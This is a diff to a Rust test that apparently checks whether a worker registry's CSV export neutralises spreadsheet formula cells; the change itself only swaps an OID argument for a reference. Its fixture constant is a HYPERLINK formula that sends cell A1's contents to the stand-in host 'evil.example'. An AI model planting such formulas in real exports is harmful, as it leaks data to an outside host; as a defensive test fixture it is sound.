@@ -11,7 +11,7 @@ use frmo_registry::workers::rows_from_csv;
 use frmo_testkit::{Backend, backend_tests};
 
 use super::nsi::python;
-use super::{REAVIZ_OID, demo};
+use super::{REAVIZ, REAVIZ_OID, demo};
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Открыть\")";
 
@@ -46,8 +46,8 @@ async fn worker_exports_neutralise_formula_cells(backend: Backend) {
         begin_date: "2020-09-01".into(),
         ..Default::default()
     };
-    registry.add_worker(&chief, REAVIZ_OID, &form).await.expect("add");
-    let export = registry.export_workers_csv(&chief, REAVIZ_OID).await.expect("export");
+    registry.add_worker(&chief, &REAVIZ, &form).await.expect("add");
+    let export = registry.export_workers_csv(&chief, &REAVIZ).await.expect("export");
     let cells = python_cells(export.as_bytes(), ';');
     let column = |name: &str| cells[0].iter().position(|c| c == name).unwrap_or_else(|| panic!("column {name}"));
     let row = &cells[1];
